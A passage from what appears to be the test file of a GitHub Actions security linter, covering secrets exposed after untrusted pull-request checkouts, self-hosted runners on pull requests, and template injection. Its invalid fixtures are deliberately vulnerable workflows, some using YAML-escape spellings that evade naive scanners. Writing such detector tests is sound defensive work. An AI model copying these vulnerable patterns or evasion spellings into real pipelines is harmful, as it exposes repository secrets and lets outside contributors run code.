      { name: 'after a comment ending in a backslash, which continues nothing', code: printsKey('|\n          # see notes \\\n          echo "$DEPLOY_KEY"'), errors: [{ line: 12 }] },
      { name: 'env var holding a secret', code: push(job('build', '      - run: |\n          echo start\n          echo $DEPLOY_KEY\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n')), errors: [{ line: 12 }] },
      { name: 'a double-quoted script (read out of its YAML quotes)', code: push(job('build', '      - run: "echo key is ${{ secrets.DEPLOY_KEY }}"\n')), errors: [{ line: 10 }] },
      {
        name: 'a double-quoted script folded over lines: reported on the line of the echo',
        code: push(job('build', '      - run: "make\n\n          echo key is ${{ secrets.DEPLOY_KEY }}"\n')),
        errors: [{ line: 12 }]
      },
      ...ESCAPED_DOLLARS.map((dollar) => ({
        name: `the expression spelled with ${dollar} in a double-quoted script`,
        code: push(job('build', `      - run: "echo key is ${dollar}{{ secrets.DEPLOY_KEY }}"\n`)),
        errors: [{ line: 10 }]
      }))
    ]
  },
  'workflow/secrets-in-untrusted-checkout': {
    valid: [
      { name: 'secrets before the checkout of the PR head', code: push(job('build', '      - run: ./notify.sh\n        env:\n          SLACK: ${{ secrets.SLACK_WEBHOOK }}\n      - uses: actions/checkout@' + SHA + '\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n'), 'pull_request_target') },
      { name: 'the step given the secret is guarded to heads of this repository', code: secretAfterCheckout(SAME_REPO) },
      { name: 'step guard comparing the head with the base repository', code: secretAfterCheckout('${{ github.event.pull_request.head.repo.full_name == github.event.pull_request.base.repo.full_name }}') },
      { name: 'step guard by repository id', code: secretAfterCheckout('github.event.pull_request.head.repo.id == github.event.pull_request.base.repo.id') },
      {
        name: 'step guard with an alternative that is false for pull_request_target',
        code: secretAfterCheckout(`\${{ github.event_name == 'push' || ${SAME_REPO} }}`, '[push, pull_request_target]')
      },
      {
        name: 'workflow_run: the step given the secret is guarded to runs from this repository',
        code: secretAfterCheckout('github.event.workflow_run.head_repository.full_name == github.repository', 'workflow_run').replace('github.event.pull_request.head.sha', 'github.event.workflow_run.head_sha')
      },
      {
        name: 'workflow_run: a step reading pull request fields never runs (a workflow_run event has none, and null equals no repository)',
        code: secretAfterCheckout(SAME_REPO, 'workflow_run').replace('github.event.pull_request.head.sha', 'github.event.workflow_run.head_sha')
      },
      { name: 'step guard inside parentheses with another condition', code: secretAfterCheckout(`(${SAME_REPO}) && contains(github.event.pull_request.labels.*.name, 'preview')`) },
      { name: "a single-quoted '\\x24{{ … }}' is literal text, not a secret", code: secretAfterHead("'\\x24{{ secrets.PREVIEW_TOKEN }}'") },
      { name: 'a step guard spelled with a YAML escape is read decoded, as GitHub evaluates it', code: secretAfterCheckout(`"\\x24{{ ${SAME_REPO} }}"`) },
      { name: "the job's own token handed to a step after a head checkout that keeps it in the clone, where the code reads it already", code: tokenAfterRunCheckout('') },
      { name: 'the same with persist-credentials: true', code: tokenAfterRunCheckout('          persist-credentials: true\n') },
      { name: 'the same, the checkout given the job token by name', code: tokenAfterRunCheckout('          token: ${{ github.token }}\n') },
      { name: 'the token spelled with a YAML escape', code: tokenAfterRunCheckout('', '"\\x24{{ secrets.GITHUB_TOKEN }}"') },
      { name: 'the token read by index', code: tokenAfterRunCheckout('', "${{ secrets['GITHUB_TOKEN'] }}") },
      { name: "GitHub's own action given the token after a checkout that keeps it", code: push(runHeadJob('stage').replace('      - run: make deploy\n', DOWNLOAD_WITH_TOKEN + '      - run: make deploy\n'), 'workflow_run') },
      { name: 'the token in the job env after a checkout that keeps it', code: push(runHeadJob('stage', '', '    env:\n      GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n'), 'workflow_run') },
      { name: 'the token in the workflow env of a job whose checkout keeps it', code: tokenInWorkflowEnv(runHeadJob('stage')) },
      {
        name: 'a head checkout without the token after a checkout of the base that keeps it in its clone, in reach of the later code',
        code: tokenAfterRunCheckout(KEEP_OFF).replace('      - uses: actions/checkout', `      - uses: actions/checkout@${SHA}\n        with:\n          path: base\n      - uses: actions/checkout`)
      }
    ],
    invalid: [
      {
        code: push(job('build', '      - uses: actions/checkout@' + SHA + '\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm run build\n        env:\n          TOKEN: ${{ secrets.PREVIEW_TOKEN }}\n'), 'pull_request_target'),
        errors: [{ line: 15, severity: 'high' }]
      },
      {
        name: 'fork flag: `null != true` holds when the fork was deleted',
        code: secretAfterCheckout("(github.event.pull_request.head.repo.fork != true) && contains(github.event.pull_request.labels.*.name, 'preview')"),
        errors: [{ line: lineOf(secretAfterCheckout('x'), 'TOKEN:') }]
      },
      {
        name: 'step guard with an alternative that lets forks in',
        code: secretAfterCheckout(`${SAME_REPO} || github.actor == 'octocat'`),
        errors: [{ line: lineOf(secretAfterCheckout('x'), 'TOKEN:'), message: /step `Publish preview` passes a secret/ }]
      },
      {
        name: 'workflow_run: a guard that lets the run in when it names no pull request',
        code: secretAfterCheckout(`github.event.pull_request == null || ${SAME_REPO}`, 'workflow_run').replace('github.event.pull_request.head.sha', 'github.event.workflow_run.head_sha'),
        errors: [{ line: lineOf(secretAfterCheckout('x'), 'TOKEN:') }]
      },
      {
        name: 'step guard whose other alternative is true for pull_request_target',
        code: secretAfterCheckout(`github.event_name != 'pull_request' || ${SAME_REPO}`, '[pull_request, pull_request_target]'),
        errors: [{ line: lineOf(secretAfterCheckout('x'), 'TOKEN:') }]
      },
      {
        name: 'a guard on another step protects nothing here',
        code: secretAfterCheckout('always()').replace('      - name: Publish preview', `      - run: ./label.sh\n        if: ${SAME_REPO}\n      - name: Publish preview`),
        errors: [{ line: lineOf(secretAfterCheckout('x'), 'TOKEN:') + 2 }]
      },
      {
        name: 'a guarded step does not help when the job env holds the secret',
        code: push(
          job('preview', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: ./publish-preview.sh\n        if: ${SAME_REPO}\n`, '    env:\n      TOKEN: ${{ secrets.PREVIEW_TOKEN }}\n'),
          'pull_request_target'
        ),
        errors: [{ line: 10, message: /the env of job `preview`/ }]
      },
      {
        name: "GitHub's own action given the token before any step runs the checkout's code: medium; the later build keeps high",
        code: STAGED_BEFORE_BUILD,
        errors: [
          { line: lineOf(STAGED_BEFORE_BUILD, 'github-token:'), severity: 'medium', message: /; medium: it hands it to GitHub's own action `actions\/download-artifact` before any step runs code from the checkout, so the pull request's code cannot read it at that point; the job's exposure is reported at the checkout and at the later steps\.$/ },
          { line: lineOf(STAGED_BEFORE_BUILD, 'DEPLOY_KEY:'), severity: 'high', message: /workflow_run` workflow\.$/ }
        ]
      },
      {
        name: "GitHub's own action given the token after a step ran the checkout's code: high",
        code: STAGED_AFTER_BUILD,
        errors: [
          { line: lineOf(STAGED_AFTER_BUILD, 'DEPLOY_KEY:'), severity: 'high' },
          { line: lineOf(STAGED_AFTER_BUILD, 'github-token:'), severity: 'high', message: /workflow_run` workflow\.$/ }
        ]
      },
      {
        name: "another owner's action given the token before the build: high",
        code: VENDOR_BEFORE_BUILD,
        errors: [
          { line: lineOf(VENDOR_BEFORE_BUILD, 'token:'), severity: 'high' },
          { line: lineOf(VENDOR_BEFORE_BUILD, 'DEPLOY_KEY:'), severity: 'high' }
        ]
      },
      {
        name: 'a second checkout given a token leaves it in its git config for the later build: high',
        code: PERSISTED_CHECKOUT,
        errors: [
          { line: lineOf(PERSISTED_CHECKOUT, 'TOOLS_PAT'), severity: 'high' },
          { line: lineOf(PERSISTED_CHECKOUT, 'DEPLOY_KEY:'), severity: 'high' }
        ]
      },
      {
        name: "the job's token handed to a step after a head checkout with persist-credentials: false: a new exposure",
        code: tokenAfterRunCheckout(KEEP_OFF),
        errors: [{ line: lineOf(tokenAfterRunCheckout(KEEP_OFF), 'GITHUB_TOKEN:'), severity: 'high' }]
      },
      {
        name: 'persist-credentials set by an expression may be false',
        code: tokenAfterRunCheckout('          persist-credentials: ${{ vars.KEEP_CREDENTIALS }}\n'),
        errors: [{ line: lineOf(tokenAfterRunCheckout(''), 'GITHUB_TOKEN:') + 1 }]
      },
      {
        name: 'a head checkout given another token keeps that one, not the job token',
        code: tokenAfterRunCheckout('          token: ${{ secrets.BOT_PAT }}\n'),
        errors: [{ line: lineOf(tokenAfterRunCheckout(''), 'GITHUB_TOKEN:') + 1 }]
      },
      {
        name: 'another secret beside the token in the same step: reported at its first secret',
        code: tokenAfterRunCheckout('').replace('        run: gh api', '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: gh api'),
        errors: [{ line: lineOf(tokenAfterRunCheckout(''), 'GITHUB_TOKEN:'), severity: 'high' }]
      },
      { name: 'the token or another secret in one expression', code: tokenAfterRunCheckout('', '${{ secrets.BOT_TOKEN || secrets.GITHUB_TOKEN }}'), errors: [{ line: lineOf(tokenAfterRunCheckout(''), 'GITHUB_TOKEN:') }] },
      {
        name: 'a checkout of the base that keeps the token only under a condition, before a head checkout without it',
        code: tokenAfterRunCheckout(KEEP_OFF).replace('      - uses: actions/checkout', `      - uses: actions/checkout@${SHA}\n        if: github.event.workflow_run.event == 'push'\n        with:\n          path: base\n      - uses: actions/checkout`),
        errors: [{ line: lineOf(tokenAfterRunCheckout(KEEP_OFF), 'GITHUB_TOKEN:') + 4 }]
      },
      {
        name: 'the token in the workflow env: named for the job whose checkout does not keep it, not for the one whose checkout does',
        code: tokenInWorkflowEnv(runHeadJob('keeps') + runHeadJob('clean', KEEP_OFF)),
        errors: [{ line: 6, message: /^the workflow env passes a secret to `clean`, which check out/ }]
      },
      ...ESCAPED_DOLLARS.map((dollar) => ({
        name: `the secret's expression spelled with ${dollar} in a double-quoted env value`,
        code: secretAfterHead(`"${dollar}{{ secrets.PREVIEW_TOKEN }}"`),
        errors: [{ line: 15, severity: 'high' as const }]
      }))
    ]
  },
  'workflow/self-hosted-on-pull-request': {
    valid: [
      { code: push('  test:\n    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n') },
      {
        name: 'job guarded to pull requests from the same repository',
        code: push('  test:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n', 'pull_request')
      },
      {
        name: 'head compared with this repository inside ${{ }} with another condition',
        code: push(`  test:\n    if: \${{ ${SAME_REPO} && github.actor != 'dependabot[bot]' }}\n    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n`, 'pull_request')
      },
      { name: 'job guard by the head owner', code: selfHosted('pull_request', 'github.event.pull_request.head.repo.owner.login == github.repository_owner') },
      { name: 'job guard with an alternative that is false for pull requests', code: selfHosted('[push, pull_request]', `github.event_name == 'push' || ${SAME_REPO}`) },
      { name: 'job guard by the head repository id', code: selfHosted('pull_request', 'github.event.pull_request.head.repo.id == github.repository_id') }
    ],
    invalid: [
      { code: push('  test:\n    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n', 'pull_request'), errors: [{ line: 7 }] },
      { name: '`fork == false` passes for a deleted fork (null == false)', code: selfHosted('pull_request', 'github.event.pull_request.head.repo.fork == false'), errors: [{ line: 8 }] },
      { name: 'every step guarded but not the job: it still starts on the runner', code: selfHosted('pull_request', undefined, SAME_REPO), errors: [{ line: 7, message: /`pull_request` events/ }] },
      {
        name: 'job guard whose other alternative is true for pull_request_target',
        code: selfHosted('[pull_request, pull_request_target]', `github.event_name != 'pull_request' || ${SAME_REPO}`),
        errors: [{ line: 8 }]
      },
      {
        name: 'guard with an || alternative that lets forks in',
        code: push("  test:\n    if: github.event.pull_request.head.repo.full_name == github.repository || github.event_name == 'pull_request'\n    runs-on: [self-hosted, linux]\n    timeout-minutes: 5\n    steps:\n      - run: make test\n", 'pull_request'),
        errors: [{ line: 8 }]
      }
    ]
  },
  'workflow/template-injection': {
    valid: [
      { name: 'title passed through env', code: push(job('t', '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.head_commit.message }}\n')) },
      { name: 'a shell variable spelled with a YAML escape in a double-quoted script', code: push(job('t', '      - run: "echo \\x24TITLE"\n        env:\n          TITLE: ${{ github.event.head_commit.message }}\n')) },
      { name: "a single-quoted '\\x24{{ … }}' is literal text, not an expression", code: push(job('t', "      - run: 'echo \\x24{{ github.event.head_commit.message }}'\n")).replace('contents: read', 'contents: write') },
      { name: 'untrusted text in an if condition', code: push(job('t', "      - if: contains(github.event.head_commit.message, '[skip]')\n        run: echo skipped\n")) },
      {
        name: 'a workflow_run field in a workflow no workflow_run starts (it expands to nothing)',
        code: push(job('metadata', '      - run: |\n          echo r: ${{ github.event.workflow_run }}\n          echo headbranch: -${{ github.event.workflow_run.head_branch }}-\n          echo ${{ github.head_ref }} ${{ github.event.issue.title }}\n'), '[push, release]')
      },
      {
        name: 'a step output set from a boolean expression that reads the event (&& and comparisons)',
        code: push(job('t', "      - id: vars\n        run: echo \"forked=${{ (github.event.pull_request && github.event.pull_request.head.repo.full_name != github.event.pull_request.base.repo.full_name) || github.repository != 'acme/app' }}\" >> $GITHUB_OUTPUT\n      - run: echo \"${{ steps.vars.outputs.forked }}\"\n"))
      },
      {
        name: 'the pushing account (it needs write access), as a commit identity',
        code: push(job('t', '      - run: |\n          git config --global user.name "${{ github.event.pusher.name }}"\n          git config --global user.email "${{ github.event.pusher.email }}"\n'))
      },
      { name: 'label names: only members with triage or write access apply labels', code: push(job('t', "      - run: echo \"${{ join(github.event.pull_request.labels.*.name, ', ') }} ${{ github.event.label.name }}\"\n"), 'pull_request') },
      { name: 'branch name as an action input', code: push(job('t', `      - uses: actions/checkout@${SHA}\n        with:\n          ref: \${{ github.head_ref }}\n`), 'pull_request') },
      {
        name: 'an input defaulting to the head branch, every caller passes a literal',
        files: { [IMAGE]: reusableImageDefaultHead(), [IMAGES]: callsImage('web', 'pull_request_target') }
      },
      { name: 'a changed-files flag (true or false), not a file list', code: push(job('t', `      - id: files\n        uses: tj-actions/changed-files@${SHA}\n      - run: echo "${'$'}{{ steps.files.outputs.any_changed }}"\n`), 'pull_request') },
      {
        name: 'toJSON of the event as a JavaScript value in github-script (a JSON literal, no break-out)',
        code: push(job('t', `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            // the author's note: it's data\n            const payload = ${'$'}{{ toJSON(github.event) }};\n            core.info(payload.head_commit.message)\n`))
      },
      {
        name: 'a release tag from the whole event, in a workflow run only on release (members who publish the release wrote all of it)',
        code: push(RELEASE_TAG_JOB, 'release').replace('contents: read', 'contents: write')
      },
      { name: 'the whole event in a script of a workflow run on release, on a schedule and by hand without inputs', code: push(job('t', WHOLE_EVENT_RUN), '[release, schedule, workflow_dispatch]') },
      { name: 'the whole github context on a schedule', code: push(job('t', WHOLE_EVENT_RUN.replace('github.event', 'github')), 'schedule') },
      {
        name: 'the whole event in a reusable workflow whose only callers run on release and by hand',
        files: { [CALLED]: WHOLE_EVENT_CALLED, '.github/workflows/release.yml': callerOn('release'), '.github/workflows/manual.yml': callerOn('workflow_dispatch') }
      },
      { name: "a manual run's whole event holding a free-text input: reported as an input, not as event text", code: MANUAL_WHOLE_EVENT },
      {
        name: 'a step output the producing script base64-encodes',
        code: push(
          job(
            't',
            `      - id: note\n        uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const text = ${'$'}{{ toJSON(github.event.head_commit.message) }}\n            core.setOutput('text', Buffer.from(text).toString('base64'))\n` +
              `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const text = Buffer.from("${'$'}{{ steps.note.outputs.text }}", 'base64').toString()\n            core.info(text)\n`
          )
        )
      }
    ],
    invalid: [
      { name: 'a changed-files file list (names come from the pull request)', code: push(job('t', `      - id: files\n        uses: tj-actions/changed-files@${SHA}\n      - run: echo "${'$'}{{ steps.files.outputs.all_changed_files }}"\n`), 'pull_request'), errors: [{ line: 12 }] },
      { name: 'commit message in a push workflow whose token may write', code: push(job('t', '      - run: echo "${{ github.event.head_commit.message }}"\n')).replace('contents: read', 'contents: write'), errors: [{ line: 10, severity: 'high' }] },
      {
        name: "a pushed commit's author (a merged fork's commit keeps it), unlike the pushing account",
        code: push(job('t', '      - run: git config --global user.email "${{ github.event.head_commit.author.email }}" && git config --global user.name "${{ github.event.pusher.name }}"\n')).replace('contents: read', 'contents: write'),
        errors: [{ line: 10, severity: 'high', message: /head_commit\.author\.email/ }]
      },
      {
        name: 'a pull request title in a workflow that push and pull_request both start',
        code: push(job('t', '      - run: echo "${{ github.event.pull_request.title }}"\n'), '[push, pull_request]').replace('contents: read', 'contents: write'),
        errors: [{ line: 10 }]
      },
      ...['pull_request', 'pull_request_review'].map((on) => ({
        name: `the head branch in a workflow ${on} starts`,
        code: push(job('t', '      - run: echo "${{ github.head_ref }}"\n'), on).replace('contents: read', 'contents: write'),
        errors: [{ line: 10 }]
      })),
      {
        name: 'a workflow_run field in a reusable workflow (the event is its caller\'s)',
        code: push(job('t', '      - run: echo "${{ github.event.workflow_run.head_branch }}"\n'), '[push, workflow_call]').replace('contents: read', 'contents: write'),
        errors: [{ line: 10 }]
      },
      {
        name: 'an expression spelled with a YAML escape in a double-quoted script (GitHub reads the decoded value)',
        code: push(job('t', '      - run: "echo \\x24{{ github.event.head_commit.message }}"\n')).replace('contents: read', 'contents: write'),
        errors: [{ line: 10, severity: 'high' }]
      },
      {
        name: 'the same spelled with \\u0024',
        code: push(job('t', '      - run: "echo \\u0024{{ github.event.head_commit.message }}"\n')).replace('contents: read', 'contents: write'),
        errors: [{ line: 10, severity: 'high' }]
      },
      {
        name: 'escapes inside the expression: the decoded context path is read, and named in the message',
        code: push(job('t', '      - run: "echo ${{ \\x67ithub.event.head_commit.\\u006dessage }}"\n')).replace('contents: read', 'contents: write'),
        errors: [{ line: 10, severity: 'high', message: /expands `github\.event\.head_commit\.message` \(attacker-controlled\)/ }]
      },
      {
        name: 'commit message in a push workflow with a read-only token and no secret: medium, saying what is left',
        code: push(job('t', '      - run: echo "${{ github.event.head_commit.message }}"\n')),
        errors: [{ line: 10, severity: 'medium', message: /token read-only and the job reads no secret \(the commands could still write the branch's Actions cache\)/ }]
      },
      {
        name: 'the same with a secret in the job: high',
        code: push(job('t', '      - run: echo "${{ github.event.head_commit.message }}"\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n')),
        errors: [{ line: 10, severity: 'high' }]
      },
      { name: "the right operand of && is the result: the title reaches the script", code: push(job('t', "      - run: echo \"${{ github.event.head_commit && github.event.head_commit.message }}\"\n")).replace('contents: read', 'contents: write'), errors: [{ line: 10, severity: 'high' }] },
      {
        name: 'toJSON of event text inside a JavaScript string of github-script (its quotes close the string)',
        code: push(job('t', `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            const note = '${'$'}{{ toJSON(github.event.head_commit.message) }}'\n`)),
        errors: [{ line: 13 }]
      },
      {
        name: 'a step output of github-script that sets it as text',
        code: push(
          job(
            't',
            `      - id: note\n        uses: actions/github-script@${SHA}\n        with:\n          script: |\n            core.setOutput('text', '${'$'}{{ github.event.head_commit.message }}'.trim())\n` +
              `      - run: echo "${'$'}{{ steps.note.outputs.text }}"\n`
          )
        ),
        errors: [{ line: 14 }, { line: 15 }]
      },
      {
        name: 'the whole event in a workflow also run on repository_dispatch, whose payload its sender writes',
        code: push(job('t', WHOLE_EVENT_RUN), '[release, repository_dispatch]').replace('contents: read', 'contents: write'),
        errors: [{ line: 10, severity: 'high', message: /expands `github\.event` \(attacker-controlled\)/ }]
      },
      {
        name: 'the whole event in a reusable workflow no caller of the analysis calls',
        files: { [CALLED]: WHOLE_EVENT_CALLED },
        errors: [{ path: CALLED, line: 10 }]
      },
      {
        name: 'the whole event in a reusable workflow, one of whose callers runs on push',
        files: { [CALLED]: WHOLE_EVENT_CALLED, '.github/workflows/release.yml': callerOn('release'), '.github/workflows/main.yml': callerOn('push') },
        errors: [{ path: CALLED, line: 10 }]
      },
      {
        name: 'the same step output in a workflow also run on push: high',
        code: push(RELEASE_TAG_JOB, '[release, push]').replace('contents: read', 'contents: write'),
        errors: [{ line: 19, severity: 'high' }]
      },
      { name: 'PR title in a pull_request workflow (no secrets, read-only token)', code: push(job('t', '      - run: echo "${{ github.event.pull_request.title }}"\n'), 'pull_request'), errors: [{ line: 10 }] },
      {
        name: 'a commit message passed to a reusable workflow that expands it',
        files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('${{ github.event.head_commit.message }}') },
        errors: [{ path: IMAGE, line: 15, severity: 'high', message: /\(`github\.event\.head_commit\.message`, passed by job `image` of `\.github\/workflows\/images\.yml`\) into code;/ }]
      },
      {
        name: 'a first caller passes a free-text input of its own, a second one a commit message',
        files: {
          [IMAGE]: reusableImage(),
          '.github/workflows/a-manual.yml': callsImage('${{ inputs.image }}', dispatchImage('string')),
          [IMAGES]: callsImage('${{ github.event.head_commit.message }}')
        },
        errors: [{ path: IMAGE, line: 15, severity: 'high', message: /passed by job `image` of `\.github\/workflows\/images\.yml`/ }]
      },
      ...[
        ['a YAML escape', (w: string) => w.replace(`    uses: ./${IMAGE}`, `    uses: "\\x2e/${IMAGE}"`)],
        ['a quoted key', (w: string) => w.replace(`    uses: ./${IMAGE}`, `    "uses": ./${IMAGE}`)],
        ['the path on the next line', (w: string) => w.replace(`    uses: ./${IMAGE}`, `    uses:\n      ./${IMAGE}`)]
      ].map(([how, disguise]) => ({
        name: `a commit message passed by a caller that spells its call with ${how as string}, beside a caller passing a literal`,
        files: { [IMAGE]: reusableImage(), '.github/workflows/nightly.yml': callsImage('cfssl'), [IMAGES]: (disguise as (w: string) => string)(callsImage('${{ github.event.head_commit.message }}')) },
        errors: [{ path: IMAGE, line: 15, severity: 'high' as const, message: /passed by job `image` of `\.github\/workflows\/images\.yml`/ }]
      })),
      {
        name: 'a caller on pull_request leaves out an input defaulting to the head branch',
        files: { [IMAGE]: reusableImageDefaultHead(), [IMAGES]: callsImageWithout('pull_request') },
        errors: [{ path: IMAGE, line: 15, severity: 'high', message: /expands `inputs\.name` \(its default `github\.head_ref`, where job `image` of `\.github\/workflows\/images\.yml` leaves it out\) into code;/ }]
      }
    ]
  },
  'workflow/template-injection-input': {
    valid: [
      { name: 'boolean and choice inputs', code: 'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      dry-run:\n        type: boolean\npermissions:\n  contents: read\njobs:\n' + job('t', '      - run: echo ${{ inputs.dry-run }}\n') },
      {
        name: 'an input declared under neither workflow_dispatch nor workflow_call is always empty',
        code:
          'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      dry-run:\n        type: boolean\n  workflow_call:\n    inputs:\n      suite:\n        type: string\npermissions:\n  contents: read\njobs:\n' +
          job('t', '      - if: inputs.extraEnv != \'\'\n        run: echo "${{ inputs.extraEnv }}" >> "$GITHUB_ENV"\n')
      },
      { name: 'reusable workflow whose every caller passes a literal', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('cfssl'), '.github/workflows/nightly.yml': callsImage("'echo-server'", 'schedule') } },
      { name: 'the callers, unchanged, read as context', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('cfssl') }, contextOnly: [IMAGES] },
      { name: 'a caller passes a choice input of its own', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('${{ inputs.image }}', dispatchImage('choice')) } },
      { name: 'a caller passes a matrix value', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('${{ matrix.image }}').replace('    uses:', '    strategy:\n      matrix:\n        image: [web, api]\n    uses:') } },
      { name: 'a caller leaves the input out', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('x').replace('    with:\n      name: x\n', '') } },
      {
        name: 'a caller passes an input its own callers give as literals',
        files: {
          [IMAGE]: reusableImage(),
          [IMAGES]: callsImage('${{ inputs.image }}', '\n  workflow_call:\n    inputs:\n      image:\n        type: string\n'),
          '.github/workflows/release.yml': callsImage('web').replace(`./${IMAGE}`, `./${IMAGES}`).replace('name: web', 'image: web')
        }
      }
    ],
    invalid: [
      { name: "the whole event of a manual run holds its free-text inputs", code: MANUAL_WHOLE_EVENT, errors: [{ line: 14, message: /expands `github\.event` \(the event of a manual run, which holds its free-text inputs\)/ }] },
      {
        name: 'a manual run whose job holds only its own token: low',
        code: DISPATCH_NOTE(''),
        errors: [{ line: 14, severity: 'low', message: /Low: the workflow runs only on workflow_dispatch, which only those with write access start/ }]
      },
      { name: 'the same with a token that may write: still low, the dispatcher can already use it', code: DISPATCH_NOTE('').replace('  contents: read\n', '  contents: write\n'), errors: [{ line: 14, severity: 'low' }] },
      { name: 'the same job reading another secret: medium', code: DISPATCH_NOTE('        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n'), errors: [{ line: 14, severity: 'medium' }] },
      { name: 'the same job with an environment: medium', code: DISPATCH_NOTE('').replace('    runs-on:', '    environment: production\n    runs-on:'), errors: [{ line: 15, severity: 'medium' }] },
      { name: 'the same job with an OIDC token: medium', code: DISPATCH_NOTE('').replace('  contents: read\n', '  contents: read\n  id-token: write\n'), errors: [{ line: 15, severity: 'medium' }] },
      { name: 'the same workflow also run on push: medium', code: DISPATCH_NOTE('').replace('on:\n', 'on:\n  push:\n'), errors: [{ line: 15, severity: 'medium' }] },
      { name: 'the same job on a runner of its own: medium', code: DISPATCH_NOTE('').replace('runs-on: ubuntu-latest', 'runs-on: [self-hosted, linux, deploy]'), errors: [{ line: 14, severity: 'medium' }] },
      {
        name: 'the same job before another job with an environment and a secret: medium',
        code: DISPATCH_NOTE('') + job('deploy', '      - run: ./deploy.sh\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n', '    needs: t\n    environment: production\n'),
        errors: [{ line: 14, severity: 'medium' }]
      },
      {
        name: 'the same job beside a reusable workflow called with inherited secrets: medium',
        code: DISPATCH_NOTE('') + '  release:\n    uses: ./.github/workflows/release.yml\n    secrets: inherit\n',
        errors: [{ line: 14, severity: 'medium' }]
      },
      {
        name: 'the same workflow started by another from comment text: medium',
        files: {
          '.github/workflows/note.yml': DISPATCH_NOTE(''),
          '.github/workflows/chatops.yml': push(job('relay', '      - run: gh workflow run note.yml -f note="$BODY"\n        env:\n          BODY: ${{ github.event.comment.body }}\n          GH_TOKEN: ${{ github.token }}\n'), 'issue_comment')
        },
        errors: [{ path: '.github/workflows/note.yml', line: 14, severity: 'medium' }]
      },
      {
        name: 'a step output set from an input is named as derived from it, not as the input itself',
        code:
          'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      tag:\n        type: string\npermissions:\n  contents: read\njobs:\n' +
          job('t', '      - id: rel\n        env:\n          TAG: v${{ inputs.tag }}\n        run: echo "url=https://example.com/$TAG" >> "$GITHUB_OUTPUT"\n      - run: echo ${{ steps.rel.outputs.url }}\n'),
        errors: [{ line: 18, message: /expands `steps\.rel\.outputs\.url` \(derived from `inputs\.tag`, a free-text input\)/ }]
      },
      {
        name: 'an untyped dispatch input written in another case than declared',
        code: 'name: ci\non:\n  workflow_dispatch:\n    inputs:\n      extraEnv:\n        description: extra variables\npermissions:\n  contents: read\njobs:\n' + job('t', '      - run: echo "${{ inputs.EXTRAENV }}" >> "$GITHUB_ENV"\n'),
        errors: [{ line: 14, severity: 'low' }]
      },
      {
        name: 'reusable workflow with no caller in the analysis',
        code: reusableImage(),
        errors: [{ line: 15, severity: 'medium', message: /expands `inputs\.name` \(a free-text input set by callers outside this analysis\) into code/ }]
      },
      {
        name: 'one caller of two passes a free-text input of its own',
        files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('cfssl'), '.github/workflows/manual.yml': callsImage('${{ inputs.image }}', dispatchImage('string')) },
        errors: [{ path: IMAGE, line: 15, message: /expands `inputs\.name` \(`inputs\.image`, passed by job `image` of `\.github\/workflows\/manual\.yml`\) into code/ }]
      },
      {
        name: 'also run by hand with the input typed in',
        files: { [IMAGE]: reusableImage('  workflow_dispatch:\n    inputs:\n      name:\n        type: string\n'), [IMAGES]: callsImage('cfssl') },
        errors: [{ path: IMAGE, line: 19, message: /`inputs\.name` \(a free-text input\)/ }]
      },
      {
        name: 'passed through env, still set by callers outside the analysis',
        code: reusableImage().replace('      - run: make NAME=${{ inputs.name }} image\n', '      - env:\n          IMAGE: ${{ inputs.name }}\n        run: make NAME=${{ env.IMAGE }} image\n'),
        errors: [{ line: 17, message: /expands `env\.IMAGE` \(a free-text input set by callers outside this analysis\) into code/ }]
      },
      {
        name: 'the `with:` of a caller is one expression',
        files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('x').replace('    with:\n      name: x\n', '    with: ${{ fromJSON(vars.IMAGE_INPUTS) }}\n') },
        errors: [{ path: IMAGE, line: 15, message: /set by callers outside this analysis/ }]
      }
    ]
  },
  'workflow/template-injection-privileged': {
    valid: [
      { name: 'number is not free text', code: push(job('t', '      - run: echo "${{ github.event.issue.number }}"\n'), 'issue_comment') },
      { name: 'label names in a privileged workflow: members apply labels', code: push(job('t', "      - run: echo \"${{ join(github.event.pull_request.labels.*.name, ', ') }} ${{ github.event.label.name }}\"\n"), 'pull_request_target') },
      { name: 'a privileged workflow passes a literal to a reusable workflow', files: { [IMAGE]: reusableImage(), [IMAGES]: callsImage('web', 'issues') } },
      { name: 'the number of an API issue a github-script step returned after filtering by the title', code: findIssueThen(FILTER_BY_TITLE, 'fromJSON(steps.find.outputs.result)[0].number') },
      {
        name: 'the number of an issue from a paginated API list kept in a variable, then filtered',
        code: findIssueThen('const issues = await github.paginate(github.rest.issues.listForRepo, { owner: context.repo.owner, state: "all" }); return issues.filter((issue) => issue.title.includes(process.env.TITLE))', 'fromJSON(steps.find.outputs.result)[0].number')
      },
